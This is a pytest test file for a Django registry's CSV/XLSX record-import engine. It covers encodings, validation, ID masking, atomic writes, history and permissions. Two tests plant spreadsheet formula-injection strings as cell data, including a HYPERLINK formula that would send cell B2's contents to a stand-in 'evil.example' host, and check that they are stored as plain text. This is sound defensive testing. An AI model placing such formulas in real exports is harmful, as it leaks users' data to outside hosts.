"""The import engine (registry.importing): reading, validation, all-or-nothing
writes with history. Runs on SQLite (the portable stage) and on PostgreSQL (the
COPY stage); tests marked ``postgres`` pin the fast path's own behaviour."""

from __future__ import annotations

import datetime
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection, transaction

from registry import services
from registry.choices import RecordStatus
from registry.importing import import_records
from registry.importing.reading import clean_cell, detect_encoding
from registry.models import CatalogItem, CreditRecord, Person
from tests.conftest import make_id_number
from tests.registry.importing_helpers import CHINESE_HEADER, ENGLISH_HEADER, csv_bytes, rows_for, xlsx_bytes

pytestmark = pytest.mark.django_db


def run(data: bytes, tree, user, *, name="records.csv", dept="A", **kwargs):
    return import_records(io.BytesIO(data), file_name=name, department=tree[dept], acting_user=user, **kwargs)


def snapshot():
    """Everything an import may write, to compare before/after."""
    return (
        sorted(Person.objects.values_list("id_number_index", "name")),
        sorted(CreditRecord.objects.values_list("decision_no", "summary", "severity", "display_until", "status")),
        Person.history.count(),
        CreditRecord.history.count(),
    )


@pytest.fixture(autouse=True)
def english():
    from django.utils import translation

    with translation.override("en"):
        yield


@pytest.fixture
def caseworker(users):
    return users["caseworker_a"]


# --- Encodings and shapes -------------------------------------------------------------------


def test_gb18030_with_chinese_headers_and_utf8_bom_import_the_same_records(tree, caseworker, catalog_item):
    rows = rows_for(5)
    gb = csv_bytes(CHINESE_HEADER, rows, encoding="gb18030", newline="\r\n")
    assert detect_encoding(gb) == "gb18030"
    result = run(gb, tree, caseworker, name="gbk.csv")
    assert result.ok, result.errors
    assert result.created == 5 and result.encoding == "gb18030"
    first = snapshot()[:2]
    # Same rows as UTF-8 with a BOM: everything matches, nothing changes.
    bom = csv_bytes(CHINESE_HEADER, rows, bom=True)
    assert detect_encoding(bom) == "utf-8-sig"
    result = run(bom, tree, caseworker, name="bom.csv")
    assert result.ok and (result.created, result.updated, result.unchanged) == (0, 0, 5)
    assert snapshot()[:2] == first
    assert sorted(Person.objects.values_list("name", flat=True)) == sorted(row[0] for row in rows)


def test_encoding_can_be_forced(tree, caseworker, catalog_item):
    data = csv_bytes(CHINESE_HEADER, rows_for(2), encoding="gb18030")
    wrong = run(data, tree, caseworker, encoding="utf-8")
    assert not wrong.ok and "UTF-8" in wrong.errors[0].message and CreditRecord.objects.count() == 0
    assert run(data, tree, caseworker, encoding="gb18030").created == 2


def test_english_headers_in_any_order_and_xlsx(tree, caseworker, catalog_item):
    rows = rows_for(3)
    order = [5, 3, 0, 6, 2, 4, 1]
    header = [ENGLISH_HEADER[i].upper() if i == 0 else ENGLISH_HEADER[i] for i in order]
    shuffled = [[row[i] for i in order] for row in rows]
    result = run(csv_bytes(header, shuffled), tree, caseworker)
    assert result.ok and result.created == 3
    # The same rows as XLSX (Chinese headers): unchanged.
    result = run(xlsx_bytes(CHINESE_HEADER, rows), tree, caseworker, name="records.xlsx")
    assert result.ok and result.unchanged == 3, result.errors


def test_crlf_trailing_blank_lines_full_width_digits_and_spaces_are_normalised(tree, caseworker, catalog_item):
    number = make_id_number()
    full_width_id = number.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    data = (
        "\ufeff 姓名 ,身份证号,信息项编码,决定文书号,决定日期,严重程度,事实摘要\r\n"
        f'\u3000王五 ,{full_width_id} , XZCF-001 ,昆罚〔２０２６〕１号,２０２６-０３-０２, 一般 ,"第一行\r\n第二行"\r\n'
        "\r\n,,,,,,\r\n\r\n"
    ).encode()
    result = run(data, tree, caseworker)
    assert result.ok, result.errors
    assert result.rows == 1
    record = CreditRecord.objects.get()
    assert record.person.name == "王五"
    assert record.person.id_number == number
    assert record.decision_no == "昆罚〔2026〕1号"
    assert record.decision_date == datetime.date(2026, 3, 2)
    assert record.summary == "第一行\n第二行"


def test_formula_looking_cells_are_stored_as_text(tree, caseworker, catalog_item):
    rows = rows_for(2)
    rows[0][6] = '=HYPERLINK("http://evil","x")'
    rows[1][6] = "+1+2"
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert result.ok
    assert set(CreditRecord.objects.values_list("summary", flat=True)) == {rows[0][6], "+1+2"}
    # In XLSX a real formula is kept as its text, never evaluated.
    rows2 = rows_for(1, start=50)
    rows2[0][6] = "=1+1"
    result = run(xlsx_bytes(CHINESE_HEADER, rows2), tree, caseworker, name="f.xlsx")
    assert result.ok, result.errors
    assert CreditRecord.objects.get(decision_no=rows2[0][3]).summary == "=1+1"


def test_invisible_control_characters_are_dropped(tree, caseworker, catalog_item):
    # Pasted from another system: a control character before "=" (which an export
    # to XLSX would otherwise turn into a live formula), one inside a name and
    # one inside the ID number. None of them can be seen or typed.
    rows = rows_for(2)
    number = rows[1][1]
    rows[0][6] = '\x01=HYPERLINK("http://evil.example/?"&B2,"x")'
    rows[1][0] = rows[1][0][:1] + "\x7f" + rows[1][0][1:]
    rows[1][1] = "\x02" + number
    rows[1][6] = "第一行\x0b第二行\t第三段"
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert result.ok, result.errors
    first, second = CreditRecord.objects.order_by("decision_no")
    assert first.summary == '=HYPERLINK("http://evil.example/?"&B2,"x")'
    assert "\x7f" not in second.person.name and len(second.person.name) == len(rows[1][0]) - 1
    assert second.person.id_number == number
    assert second.summary == "第一行第二行\t第三段"  # tab is kept: it is visible as space


def test_clean_cell():
    assert clean_cell(" １２３\u3000") == "123"
    assert clean_cell("a\r\nb") == "a\nb"
    assert clean_cell(datetime.datetime(2026, 3, 2)) == "2026-03-02"
    assert clean_cell(12.0) == "12"
    assert clean_cell(None) == ""
    assert clean_cell("\x00a\x1fb\x7f") == "ab"


# --- Bad input: every problem, nothing written -------------------------------------------------


def test_errors_on_several_rows_are_all_reported_and_nothing_is_written(tree, caseworker, catalog_item, make_person):
    registered = make_person(tree["A"], name="李四")
    inactive = CatalogItem.objects.create(code="OLD-1", name="旧", category="penalty", legal_basis="x",
                                          sharing_level="public", is_active=False)  # fmt: skip
    rows = rows_for(9)
    good = rows[0]
    rows[1][1] = rows[1][1][:-1] + ("0" if rows[1][1][-1] != "0" else "1")  # wrong check character
    rows[2][2] = "NO-SUCH"  # unknown catalogue code
    rows[3][4] = "2999-01-01"  # future decision date
    rows[4][4] = "2026-02-30"  # impossible date
    rows[5][3] = good[3]  # same decision number as row 2
    rows[6][1] = registered.id_number  # registered as 李四, named otherwise here
    rows[7][2] = inactive.code  # inactive catalogue item
    rows[8][5] = "很严重"  # unknown severity
    before = snapshot()
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert not result.ok
    found = {(error.row, error.column) for error in result.errors}
    assert found == {
        (3, "身份证号"),
        (4, "信息项编码"),
        (5, "决定日期"),
        (6, "决定日期"),
        (7, "决定文书号"),
        (8, "姓名"),
        (9, "信息项编码"),
        (10, "严重程度"),
    }
    by_row = {error.row: error for error in result.errors}
    assert "check character" in by_row[3].message
    assert by_row[3].value == rows[1][1][:6] + "********" + rows[1][1][-4:]  # masked
    assert "No catalogue item" in by_row[4].message
    assert "future" in by_row[5].message
    assert "row 2" in by_row[7].message
    assert "already registered" in by_row[8].message and registered.id_number not in by_row[8].message
    assert "no longer active" in by_row[9].message
    assert result.created == result.updated == 0
    assert snapshot() == before
    assert [error.row for error in result.errors] == sorted(error.row for error in result.errors)


def test_id_numbers_are_masked_wherever_they_turn_up_in_errors(tree, caseworker, catalog_item):
    rows = rows_for(3)
    shifted = rows[0][1]
    rows[0][4] = shifted  # the ID typed into the date column (columns shifted in Excel)
    rows[1][4] = "x" * 95 + rows[1][1]  # an ID straddling the cut-off of a shown value
    impossible = make_id_number(birth="19910230")  # a correct check character, no such day
    rows[2][1] = impossible
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert not result.ok
    assert [(e.row, e.column) for e in result.errors] == [(2, "决定日期"), (3, "决定日期"), (4, "身份证号")]
    shown = " ".join(f"{e.column} {e.value} {e.message}" for e in result.errors)
    assert shifted[:6] + "********" + shifted[-4:] in shown
    for number in (shifted, rows[1][1], impossible):
        assert number not in shown
        assert number[6:14] not in shown  # no stump of the hidden part either
    # A file without its header row: the first record is taken for headers.
    result = run(csv_bytes(rows[1], rows[2:]), tree, caseworker)
    assert not result.ok and result.errors[0].row == 1
    shown = " ".join(f"{e.column} {e.value} {e.message}" for e in result.errors)
    assert rows[1][1] not in shown and rows[1][1][:6] + "********" + rows[1][1][-4:] in shown


def test_an_id_number_in_the_file_name_is_masked_in_history(tree, caseworker, catalog_item):
    number = make_id_number()
    result = run(csv_bytes(CHINESE_HEADER, rows_for(1)), tree, caseworker, name=f"更正-{number}.csv")
    assert result.ok, result.errors
    reasons = set(CreditRecord.history.values_list("history_change_reason", flat=True)) | set(
        Person.history.values_list("history_change_reason", flat=True)
    )
    assert reasons == {f"import 更正-{number[:6]}********{number[-4:]}.csv"}


def test_same_id_with_two_names_in_one_file(tree, caseworker, catalog_item):
    rows = rows_for(2)
    rows[1][1] = rows[0][1]
    rows[1][0] = "别名"
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert [(e.row, e.column) for e in result.errors] == [(3, "姓名")]
    assert "Row 2" in result.errors[0].message
    assert Person.objects.count() == 0


def test_unknown_and_missing_columns(tree, caseworker, catalog_item):
    header = ["姓名", "身份证号", "信息项编码", "决定日期", "严重程度", "备注"]
    rows = [row[:3] + row[4:6] + ["x"] for row in rows_for(2)]
    result = run(csv_bytes(header, rows), tree, caseworker)
    problems = {(error.row, error.column): error.message for error in result.errors}
    assert "Unknown column" in problems[(1, "备注")]
    assert "Missing column" in problems[(1, "决定文书号/decision_no")]
    assert CreditRecord.objects.count() == 0


def test_display_period_outside_the_catalogue_bounds(tree, caseworker, catalog_item):
    header = CHINESE_HEADER + ["公示开始日期", "公示截止日期"]
    rows = rows_for(2)
    rows[0][5], rows[0][4] = "一般", "2026-01-10"
    rows[0] += ["2026-01-10", "2026-02-01"]  # 22 days: general needs 90-365
    rows[1][5], rows[1][4] = "严重", "2026-01-10"
    rows[1] += ["2026-01-10", "2027-01-10"]  # 365 days: fine
    result = run(csv_bytes(header, rows), tree, caseworker)
    assert [(e.row, e.column) for e in result.errors] == [(2, "公示截止日期")]
    assert "between 90 and 365" in result.errors[0].message
    rows[0][8] = "2026-06-01"
    result = run(csv_bytes(header, rows), tree, caseworker)
    assert result.ok and result.created == 2
    record = CreditRecord.objects.get(decision_no=rows[1][3])
    assert (record.display_from, record.display_until) == (datetime.date(2026, 1, 10), datetime.date(2027, 1, 10))


def test_missing_display_dates_take_the_catalogue_period(tree, caseworker, catalog_item):
    rows = rows_for(1)
    rows[0][4], rows[0][5] = "2026-03-02", "严重"
    assert run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker).ok
    record = CreditRecord.objects.get()
    assert record.display_from == datetime.date(2026, 3, 2)
    assert record.display_until == datetime.date(2026, 3, 2) + datetime.timedelta(days=1095)


# --- Matching, updates, history ------------------------------------------------------------------


def test_reimporting_an_unchanged_file_changes_nothing_and_adds_no_history(tree, caseworker, catalog_item):
    data = csv_bytes(CHINESE_HEADER, rows_for(4))
    assert run(data, tree, caseworker).created == 4
    before = snapshot()
    stamps = sorted(CreditRecord.objects.values_list("updated_at", flat=True))
    result = run(data, tree, caseworker)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 4)
    assert snapshot() == before
    assert sorted(CreditRecord.objects.values_list("updated_at", flat=True)) == stamps


def test_changed_rows_update_drafts_with_history_and_keep_their_status(tree, caseworker, catalog_item, users):
    rows = rows_for(3)
    run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    draft = CreditRecord.objects.get(decision_no=rows[0][3])
    rows[0][6] = "更正后的事实"
    history_before = CreditRecord.history.count()
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker, name="second.csv")
    assert (result.created, result.updated, result.unchanged) == (0, 1, 2)
    draft.refresh_from_db()
    assert draft.summary == "更正后的事实"
    assert draft.status == RecordStatus.DRAFT  # import never changes the status
    assert CreditRecord.history.count() == history_before + 1
    latest = draft.history.first()
    assert (latest.history_type, latest.history_user, latest.history_change_reason) == (
        "~",
        caseworker,
        "import second.csv",
    )
    assert latest.summary == "更正后的事实"


def test_a_published_record_is_not_changed_by_an_import(tree, caseworker, catalog_item, users):
    """A change to a published record is a correction under review: the import
    refuses the row (and writes nothing), pointing to the correction."""
    rows = rows_for(3)
    run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    published = CreditRecord.objects.get(decision_no=rows[0][3])
    services.publish_records([published], acting_user=users["operator"], reason="publish")
    rows[0][6] = "更正后的事实"
    rows[1][6] = "草稿也改"
    history_before = CreditRecord.history.count()
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker, name="second.csv")
    assert not result.ok
    assert [(e.row, e.column) for e in result.errors] == [(2, "决定文书号")]
    assert "correction" in result.errors[0].message
    published.refresh_from_db()
    assert published.summary != "更正后的事实" and published.status == RecordStatus.ACTIVE
    assert CreditRecord.history.count() == history_before  # all or nothing: the draft is unchanged too


def test_new_rows_are_drafts_with_history_naming_the_importer(tree, caseworker, catalog_item, make_person):
    existing = make_person(tree["B"], name="赵六")
    rows = rows_for(2)
    rows[1][0], rows[1][1] = "赵六", existing.id_number
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker, reason="import x.csv (job 7)")
    assert (result.created, result.persons_created) == (2, 1)
    assert set(CreditRecord.objects.values_list("status", flat=True)) == {RecordStatus.DRAFT}
    assert CreditRecord.objects.get(decision_no=rows[1][3]).person == existing  # matched by blind index
    new_person = Person.objects.get(name=rows[0][0])
    assert new_person.registered_by == tree["A"]
    assert new_person.id_number == rows[0][1] and new_person.id_number_index == Person.index_for(rows[0][1])
    assert new_person.id_number_masked == rows[0][1][:6] + "********" + rows[0][1][-4:]
    for model in (Person, CreditRecord):
        rows_written = model.history.filter(history_change_reason="import x.csv (job 7)")
        assert rows_written.count() == (1 if model is Person else 2)
        assert {h.history_user for h in rows_written} == {caseworker}
        assert {h.history_type for h in rows_written} == {"+"}
    assert existing.history.count() == 1  # the matched person is not touched


def test_dry_run_counts_and_writes_nothing(tree, caseworker, catalog_item):
    rows = rows_for(3)
    run(csv_bytes(CHINESE_HEADER, rows[:2]), tree, caseworker)
    rows[0][6] = "changed"
    before = snapshot()
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker, dry_run=True)
    assert result.ok and (result.created, result.updated, result.unchanged, result.persons_created) == (1, 1, 1, 1)
    assert snapshot() == before


# --- Permission ----------------------------------------------------------------------------------


class Unreadable(io.BytesIO):
    def read(self, *args):
        raise AssertionError("the file was read before the permission check")


@pytest.mark.parametrize("username", ["caseworker_b", "reviewer_a", "publisher_a"])
def test_import_into_a_department_the_user_does_not_hold_is_refused_before_reading(tree, users, username,
                                                                                   catalog_item):  # fmt: skip
    with pytest.raises(PermissionDenied):
        import_records(Unreadable(), file_name="x.csv", department=tree["A"], acting_user=users[username])
    assert CreditRecord.objects.count() == 0


def test_supervisor_of_the_subtree_may_import(tree, users, catalog_item):
    assert run(csv_bytes(CHINESE_HEADER, rows_for(1)), tree, users["supervisor"]).created == 1


# --- All or nothing, on either stage --------------------------------------------------------------


def test_a_crash_while_writing_leaves_nothing(tree, caseworker, catalog_item, monkeypatch):
    from registry.importing import memory, pg

    stage = pg.PostgresStage if connection.vendor == "postgresql" else memory.MemoryStage
    original = stage.write

    def write_then_crash(self, **kwargs):
        original(self, **kwargs)
        assert CreditRecord.objects.count() == 3  # it did write...
        raise RuntimeError("worker killed")

    monkeypatch.setattr(stage, "write", write_then_crash)
    before = snapshot()
    with pytest.raises(RuntimeError):
        with transaction.atomic():
            run(csv_bytes(CHINESE_HEADER, rows_for(3)), tree, caseworker)
    assert snapshot() == before  # ...and none of it stayed


@pytest.mark.postgres
def test_postgresql_uses_the_copy_stage_and_matches_the_portable_one(tree, caseworker, catalog_item, make_person):
    from registry.importing import engine

    assert connection.vendor == "postgresql"
    existing = make_person(tree["A"], name="钱七")
    rows = rows_for(6)
    rows[5][0], rows[5][1] = "钱七", existing.id_number
    rows[4][1] = rows[3][1]  # one person, two records
    rows[4][0] = rows[3][0]
    data = csv_bytes(CHINESE_HEADER, rows)
    results = {}
    for kind in ("memory", "postgresql"):
        sid = transaction.savepoint()
        importer = engine.Importer(department=tree["A"], acting_user=caseworker, stage=kind)
        result = importer.run(io.BytesIO(data), file_name="r.csv")
        results[kind] = (
            (result.created, result.updated, result.unchanged, result.persons_created),
            sorted(
                CreditRecord.objects.values_list(
                    "decision_no", "person__name", "severity", "summary", "display_from", "display_until", "status"
                )
            ),  # fmt: skip
            sorted(
                CreditRecord.history.values_list(
                    "decision_no", "history_type", "history_user", "status", "history_change_reason"
                )
            ),  # fmt: skip
            sorted(
                Person.history.values_list(
                    "name", "history_type", "history_user_id", "registered_by_id", "id_number_index"
                )
            ),  # fmt: skip
        )
        # The history rows copy the row exactly (created/updated stamps too).
        for record in CreditRecord.objects.all():
            latest = record.history.first()
            assert (latest.created_at, latest.updated_at, latest.person_id) == (
                record.created_at,
                record.updated_at,
                record.person_id,
            )
        transaction.savepoint_rollback(sid)
    assert results["memory"][0] == (6, 0, 0, 4)
    assert results["postgresql"] == results["memory"]


@pytest.mark.postgres
def test_postgresql_cross_row_checks(tree, caseworker, catalog_item, make_person):
    registered = make_person(tree["A"], name="李四")
    rows = rows_for(4)
    rows[1][3] = rows[0][3]
    rows[2][1], rows[2][0] = rows[0][1], "另一个名字"
    rows[3][1] = registered.id_number
    rows[3][4] = "not a date"  # an invalid row still takes part in the checks
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert sorted((e.row, e.column) for e in result.errors) == [
        (3, "决定文书号"), (4, "姓名"), (5, "决定日期"), (5, "姓名")]  # fmt: skip
    assert Person.objects.count() == 1


@pytest.mark.postgres
def test_postgresql_stage_table_is_dropped(tree, caseworker, catalog_item):
    run(csv_bytes(CHINESE_HEADER, rows_for(2)), tree, caseworker)
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_class WHERE relname LIKE 'import_stage_%%' AND relpersistence = 't'")
        assert cursor.fetchone()[0] == 0


@pytest.mark.postgres
def test_postgresql_refuses_an_unknown_history_column(monkeypatch):
    from registry.importing import pg

    fake = CreditRecord.history.model._meta.get_field("history_change_reason")
    monkeypatch.setattr(fake, "name", "history_mystery")
    with pytest.raises(RuntimeError, match="history column"):
        pg.history_columns(CreditRecord, "new", "+")


def test_the_fast_id_check_accepts_exactly_what_validate_resident_id_accepts():
    import random

    from django.core.exceptions import ValidationError

    from registry.identifiers import validate_resident_id
    from registry.importing.engine import RowValidator

    validator = RowValidator.__new__(RowValidator)
    validator.today, validator._births, validator._regions = datetime.date(2026, 6, 1), {}, {}
    rng = random.Random(3)
    samples = []
    for _ in range(3000):
        region = rng.choice(["530102", "110101", "999999", "530100", "445222", "360426"])
        birth = f"{rng.randint(1840, 2030)}{rng.randint(0, 13):02d}{rng.randint(0, 32):02d}"
        number = make_id_number(region=region, birth=birth, seq=rng.randint(0, 999))
        if rng.random() < 0.3:  # a wrong check character
            number = number[:17] + rng.choice("0123456789X")
        samples.append(number.lower() if rng.random() < 0.1 else number)
    for number in samples:
        try:
            expected = validate_resident_id(number, today=validator.today)
            expected = (expected.number, expected.region_code, expected.birth_date)
        except ValidationError:
            expected = None
        try:
            got = validator.resident_id(number)
        except ValidationError:
            got = None
        assert got == expected, number


def test_cells_with_tabs_newlines_and_backslashes_are_stored_as_written(tree, caseworker, catalog_item):
    rows = rows_for(3)
    rows[0][6] = "制表\t符\t和\\反斜杠\\N"
    rows[1][6] = "第一行\n第二行\\n"
    rows[2][0] = "王\\五"
    rows[2][3] = "昆罚\t〔2026〕\\1号"
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert result.ok, result.errors
    stored = {r.decision_no: r for r in CreditRecord.objects.select_related("person")}
    assert stored[rows[0][3]].summary == rows[0][6]
    assert stored[rows[1][3]].summary == rows[1][6]
    assert stored[rows[2][3]].person.name == "王\\五"
    assert stored[rows[2][3]].summary == rows[2][6]
    # Importing the same file again finds everything unchanged.
    again = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)


def test_the_sample_file_in_docs_imports(tree, caseworker, operator):
    from pathlib import Path

    from django.conf import settings

    with transaction.atomic():
        services.save_catalog_item(
            CatalogItem(code="SP-XZCF-001", name="食品", category="penalty", legal_basis="x", sharing_level="public"),
            acting_user=operator,
            reason="test",
        )
    data = (Path(settings.BASE_DIR) / "docs" / "import-sample.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    result = run(data, tree, caseworker, name="import-sample.csv")
    assert result.ok, result.errors
    assert result.created == 3


def test_matching_persons_registered_elsewhere_is_logged(tree, users, catalog_item, make_person):
    """The report can confirm that a number is registered, and under which name,
    to a department that may not see the person: that read is logged."""
    from registry.choices import AccessAction
    from registry.models import AccessLog

    rows = rows_for(3, code=catalog_item.code)
    elsewhere = make_person(tree["A"], name="李四", id_number=rows[0][1])  # registered by A
    make_person(tree["B"], name=rows[1][0], id_number=rows[1][1])  # registered by B itself
    rows[0][0] = "李四四"  # a wrong name: the report says so
    caseworker_b = users["caseworker_b"]
    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker_b, dept="B", dry_run=True)
    assert [(e.row, e.column) for e in result.errors] == [(2, "姓名")]
    log = AccessLog.objects.get(user=caseworker_b)
    assert (log.action, log.person_id, log.purpose, log.detail) == (
        AccessAction.SEARCH,
        elsewhere.pk,
        "import records.csv",
        "dry run",
    )
    # The right name: imported, and logged again (the number was confirmed).
    rows[0][0] = "李四"
    assert run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker_b, dept="B").ok
    logged = AccessLog.objects.filter(user=caseworker_b).order_by("id")
    assert list(logged.values_list("person_id", "detail")) == [(elsewhere.pk, "dry run"), (elsewhere.pk, "import")]
    # Now B holds a record about 李四: a re-import reads nothing new.
    assert run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker_b, dept="B").ok
    assert AccessLog.objects.filter(user=caseworker_b).count() == 2
